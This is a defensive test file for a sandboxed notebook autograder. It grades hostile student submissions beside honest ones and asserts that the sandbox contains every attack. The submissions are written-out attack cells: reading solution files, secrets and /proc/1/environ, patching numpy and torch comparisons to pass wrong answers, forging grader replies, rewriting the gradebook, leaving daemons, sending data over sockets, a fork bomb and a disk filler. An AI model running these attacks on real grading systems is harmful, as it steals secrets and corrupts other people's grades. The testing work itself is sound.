"""Tamper-proof grading: hostile submissions, graded in one batch beside honest students.

The attacker knows this repository. Each hostile student is a correct notebook plus one attack
(or a wrong answer plus an attack meant to hide it). The batch runs with the sandbox, 2 workers,
a secret in the TA's environment and a secret file in the TA's HOME. Then:

* every attack fails: nothing secret reaches any feedback or autograded notebook, no file of the
  course changes, no process outlives the batch, no connection leaves the sandbox;
* cheating costs the cheater: a wrong answer stays wrong whatever the attack;
* the honest students keep exactly the scores they get without attackers (full marks).
"""

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell

from grading.demo import answers_for, student_notebook
from tests.course_copy import ROOT, copy_course, grade

FULL = [2, 2, 2, 1, 3, 2]
PARTS = ["softmax", "forward_pass", "cross_entropy_loss", "update_params", "train_nn", "MultiClassNet"]
NOTEBOOK = "perceptrons/perceptrons.ipynb"
SECRET_ENV = "TA_SECRET_TOKEN"
SECRET_VALUE = "env-secret-5f1c9a77"
HOME_SECRET = "home-secret-90b3e2d1"
HONEST_MARK = "honest-marker-4471"  # a comment in the honest students' notebooks
DAEMON_MARK = "sleep 987653"
# Lines that only the grader's side holds: none may appear in anything a student sees.
SECRETS = {
    "reference source": "Reference implementations of the perceptrons exercise",
    "hidden checks": "def test_softmax_large_logits",
    "solutions": "### BEGIN SOLUTION",
    "TA environment": SECRET_VALUE,
    "TA HOME": HOME_SECRET,
    "another student's notebook": HONEST_MARK,
}

SOFTMAX_WRONG = "def softmax(z):\n    return jnp.zeros_like(z)\n"

# student id -> (attack cell inserted after the setup cell, {answer grade id: replacement source})
ATTACKS = {
    "prints_secrets": ("""
import glob, os
for pattern in ["{course}/reference/*.py", "{course}/grader_tests/*.py", "{course}/source/*/*.ipynb",
                "{course}/submitted/*/*/*.ipynb", "{home}/*", "/proc/1/environ"]:
    for path in glob.glob(pattern):
        try:
            print(path, open(path, errors="replace").read()[:20000])
        except OSError as error:
            print(path, type(error).__name__)
    print(pattern, "->", glob.glob(pattern))
print(dict(os.environ))
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/dev")):
        continue
    for name in files:
        if name.endswith((".py", ".ipynb", ".db", ".json")) and "site-packages" not in root and "pyenv" not in root:
            print("found", os.path.join(root, name))
""", {}),
    "patches_numpy": ("""
import numpy, jax.numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
""", {"softmax_code": SOFTMAX_WRONG}),
    "steals_reference": ("""
import gc, sys
def _find(name):
    for module in list(sys.modules.values()):
        if getattr(module, "__name__", "").startswith(("reference", "grader_tests")) and hasattr(module, name):
            return getattr(module, name)
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == name and getattr(obj, "__module__", "") in ("reference", "reference.jax_mlp", "grader_tests.expected"):
            return obj
    return None
""", {"softmax_code": "def softmax(z):\n    found = _find('softmax')\n    return found(z) if found else jnp.zeros_like(z)\n"}),
    "forges_answers": ("""
import sandbox.agent as agent
agent.Agent.handle = lambda self, request: {{"ok": 2.0, "called": [], "evaluations": []}}
""", {"softmax_code": SOFTMAX_WRONG}),
    "rewrites_grades": ("""
import json, os, sqlite3
for path in ["{course}/gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        db.commit()
        print("gradebook changed")
    except Exception as error:
        print("gradebook:", type(error).__name__, error)
for student in ["honest_a", "honest_b", "rewrites_grades"]:
    try:
        os.makedirs("{course}/.grading/results", exist_ok=True)
        with open(f"{course}/.grading/results/{{student}}.json", "w") as handle:
            json.dump({{"student_id": student, "scores": {{}}, "total": 12 if student == "rewrites_grades" else 0}}, handle)
        print("results changed")
    except OSError as error:
        print("results:", type(error).__name__)
for path in ["{course}/grader_tests/test_softmax.py", "{course}/reference/jax_mlp.py", "{course}/grades.csv"]:
    try:
        with open(path, "a") as handle:
            handle.write("\\nraise SystemExit('sabotaged')\\n")
        print("changed", path)
    except OSError as error:
        print(path, type(error).__name__)
""", {"softmax_code": SOFTMAX_WRONG}),
    "leaves_daemon": ("""
import os, subprocess
subprocess.Popen(["sh", "-c", "{daemon}"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "{daemon}"])
    os._exit(0)
""", {}),
    "uses_network": ("""
import socket
for host, port in [("127.0.0.1", {port}), ("10.0.2.2", 80), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"leak")
        print("connected", host)
    except OSError as error:
        print("no network", host, type(error).__name__)
""", {}),
    "fork_bomb": ("""
import os, time
children = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("fork bomb stopped after", children, "children")
""", {}),
    "fills_disk": ("""
import os
for where in ["/tmp", os.path.expanduser("~"), "."]:
    written = 0
    try:
        with open(os.path.join(where, "filler.bin"), "wb") as handle:
            while written < 4096:
                handle.write(b"x" * 2**20)
                written += 1
    except OSError as error:
        print(where, type(error).__name__)
    print(where, written, "MB")
""", {}),
}
# Honest students: the correct notebook (with a marker another student might try to read).
HONEST = ["honest_a", "honest_b"]
# Attacks that replace an answer by a wrong one: that part must stay at 0, whatever the attack.
EXPECTED = {student: ([0] + FULL[1:] if "softmax_code" in answers else FULL) for student, (_, answers) in ATTACKS.items()}
EXPECTED["forges_answers"] = [0] * 6  # its agent answers nonsense to every request, so every part fails
# The fork bomb's children hold its sandbox's whole process budget, so its own kernel can start no
# thread and dies in later cells: the bomb costs the bomber (at most full marks, never more).
EXPECTED["fork_bomb"] = None

pytestmark = pytest.mark.slow  # a whole class graded end to end (minutes)


def notebook(attack=None, answers=None, honest=False):
    solution = answers_for(True, [])
    if honest:
        solution["forward_pass_code"] = f"# {HONEST_MARK}\n" + solution["forward_pass_code"]
    nb = student_notebook({**solution, **(answers or {})})
    if attack:
        setup = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "exercise_setup")
        nb.cells.insert(setup + 1, new_code_cell(attack))
    return nb


def _digest(paths):
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


def _processes_with(text):
    found = subprocess.run(["pgrep", "-af", text], capture_output=True, text=True).stdout
    return [line for line in found.splitlines() if "pgrep" not in line]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    course = copy_course(base / "course", include=["nbgrader_config.py", "source", "grader_tests", "reference", "grading", "sandbox"])
    home = base / "ta_home"
    home.mkdir()
    (home / "notes.txt").write_text(HOME_SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    port = listener.getsockname()[1]
    for student, (attack, answers) in ATTACKS.items():
        code = attack.format(course=course, home=home, daemon=DAEMON_MARK, port=port)
        path = course / "submitted" / student / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(notebook(code, answers), str(path))
    for student in HONEST:
        path = course / "submitted" / student / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(notebook(honest=True), str(path))
    protected = [p for d in ("grader_tests", "reference", "source", "grading", "sandbox") for p in (course / d).rglob("*") if p.is_file()]
    before = _digest(protected)
    free_before = shutil.disk_usage(base).free
    completed = grade(course, GRADING_CELL_TIMEOUT="40", HOME=str(home), **{SECRET_ENV: SECRET_VALUE})
    connections = []
    try:
        while True:
            connections.append(listener.accept())
    except OSError:
        pass
    listener.close()
    with open(course / "grades.csv", newline="") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    return {"course": course, "completed": completed, "rows": rows, "before": before, "after": _digest(protected),
            "connections": connections, "free_before": free_before, "free_after": shutil.disk_usage(base).free}


def test_the_batch_finishes_and_lists_everyone(attacked):
    completed, rows = attacked["completed"], attacked["rows"]
    assert completed.returncode == 0, completed.stdout[-2000:] + completed.stderr[-3000:]
    assert sorted(rows) == sorted([*ATTACKS, *HONEST])


@pytest.mark.parametrize("student", HONEST)
def test_honest_students_keep_full_marks(attacked, student):
    row = attacked["rows"][student]
    assert [float(row[p]) for p in PARTS] == FULL, row
    assert row["status"] == "graded", row
    result = json.loads((attacked["course"] / ".grading" / "results" / f"{student}.json").read_text())
    assert result["total"] == 12 and result["sandboxed"] is True


@pytest.mark.parametrize("student", list(ATTACKS))
def test_an_attack_never_raises_the_attackers_grade(attacked, student):
    row = attacked["rows"][student]
    if EXPECTED[student] is None:
        assert all(float(row[p]) <= full for p, full in zip(PARTS, FULL)), row
    else:
        assert [float(row[p]) for p in PARTS] == EXPECTED[student], row


@pytest.mark.parametrize("what", list(SECRETS))
def test_nothing_secret_reaches_what_students_see(attacked, what):
    course = attacked["course"]
    seen = [*(course / "feedback").rglob("*.html"), *(course / "autograded").rglob("*.ipynb")]
    assert len(seen) >= 2 * (len(ATTACKS) + len(HONEST))
    for path in seen:
        text = path.read_text(encoding="utf-8", errors="replace")
        if what == "solutions":  # the honest notebooks legitimately hold their own answers, never the markers
            assert SECRETS[what] not in text, path
        elif what == "another student's notebook":
            if not path.parent.parent.name.startswith("honest"):
                assert SECRETS[what] not in text, path
        else:
            assert SECRETS[what] not in text, f"{what} leaked into {path}"


def test_no_file_of_the_course_changed(attacked):
    assert attacked["after"] == attacked["before"]


def test_results_and_gradebook_are_written_only_by_the_grader(attacked):
    course = attacked["course"]
    rows = attacked["rows"]
    assert float(rows["rewrites_grades"]["total"]) == 10  # its wrong softmax, nothing more
    for student in HONEST:
        saved = json.loads((course / ".grading" / "results" / f"{student}.json").read_text())
        assert saved["total"] == 12
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for student in HONEST:
            assert gradebook.find_submission("perceptrons", student).score == 12


def test_no_process_outlives_the_batch(attacked):
    assert _processes_with(DAEMON_MARK) == []
    assert _processes_with("ipykernel_launcher") == [] or all(str(attacked["course"]) not in line for line in _processes_with("ipykernel_launcher"))
    assert _processes_with("perceptrons-sandbox") == []


def _printed(attacked, student):
    """What the student's cells printed (outputs only, not their source) in the autograded notebook."""
    nb = nbformat.read(str(attacked["course"] / "autograded" / student / NOTEBOOK), as_version=4)
    return "".join(out.get("text", "") for cell in nb.cells if cell.cell_type == "code" for out in cell.get("outputs", []))


def test_no_connection_leaves_the_sandbox(attacked):
    assert attacked["connections"] == []
    printed = _printed(attacked, "uses_network")
    assert "connected" not in printed and printed.count("no network") == 3


def test_fork_bomb_and_disk_filler_are_contained(attacked):
    assert "fork bomb stopped after" in _printed(attacked, "fork_bomb")
    assert attacked["free_before"] - attacked["free_after"] < 300 * 2**20  # nothing of the filler on the TA's disk
    assert [float(attacked["rows"]["fills_disk"][p]) for p in PARTS] == FULL
    assert "/tmp OSError" in _printed(attacked, "fills_disk")  # stopped by the sandbox's limits, long before 4 GB
